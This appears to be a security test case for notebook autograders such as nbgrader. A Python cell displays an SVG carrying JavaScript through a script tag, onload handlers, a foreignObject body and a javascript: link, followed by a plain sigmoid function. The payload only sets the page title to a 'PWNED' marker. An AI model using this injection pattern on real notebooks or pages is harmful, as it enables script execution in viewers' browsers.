# /// case
# about = "right answers, and a drawing in SVG with a script, a handler and a foreign object"
# kind = "render"
# promise = 6
# succeeds_at = ["nbgrader"]
# ///
# %% sigmoid
# an image that is a program
from IPython.display import SVG, display

_RUN = "document.title=" + repr(":".join(["PWNED", "attack/svg_with_script"]))
display(
    SVG(
        f'<svg xmlns="http://www.w3.org/2000/svg" onload="{_RUN}" width="9" height="9"><script>{_RUN}</script>'
        f'<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="{_RUN}"/></foreignObject>'
        f'<a href="javascript:{_RUN}"><rect width="9" height="9"/></a></svg>'
    )
)

def sigmoid(x, w=1.0, b=0.0):
    return 0.5 * (1 + np.tanh((w * np.asarray(x) + b) / 2))
